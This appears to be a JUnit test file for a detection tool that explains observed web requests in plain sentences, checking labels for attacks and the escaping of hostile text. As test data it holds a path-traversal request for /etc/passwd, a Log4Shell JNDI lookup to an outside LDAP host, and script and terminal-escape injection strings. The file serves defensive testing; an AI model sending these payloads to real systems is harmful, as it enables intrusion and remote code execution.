package axon.verdict;

import static org.assertj.core.api.Assertions.assertThat;

import axon.signature.Sample;
import org.junit.jupiter.api.Test;

class ExplanationTest {
  @Test
  void namesTheParameterAndTheKind() {
    assertThat(sentence("/show?id=3&file=../../../etc/passwd"))
        .startsWith("Someone tried to read a system file through the “file” parameter: “")
        .endsWith("” (path traversal).");
  }

  @Test
  void namesTheHeader() {
    assertThat(sentence("User-Agent: ${jndi:ldap://192.0.2.1/a}"))
        .contains("through the User-Agent header")
        .endsWith("(Log4Shell).");
  }

  @Test
  void aVisitIsCalledOne() {
    assertThat(sentence("/news")).isEqualTo("An ordinary visit to “/news”.");
  }

  @Test
  void rawBytesAreCalledWhatTheyLookLike() {
    assertThat(Explanation.sentence(Observed.judged(Observed.raw("ssh", "SSH-2.0-Go"))))
        .isEqualTo("Someone spoke SSH to a web port (scanning).");
  }

  @Test
  void hostileTextIsBoundedAndEscaped() {
    String sentence = sentence("/?q=<script>\u001b[31m\u0007" + "x".repeat(5000));
    assertThat(sentence).hasSizeLessThan(400).doesNotContain("\u001b", "\u0007");
    assertThat(sentence("/\u001b]0;x\u0007\r\n" + "y".repeat(500)))
        .contains("\\x1b")
        .hasSizeLessThan(300)
        .doesNotContain("\n", "\r", "\u001b");
  }

  private static String sentence(String line) {
    return Explanation.sentence(Observed.judged(Observed.first(Sample.request(line))));
  }
}
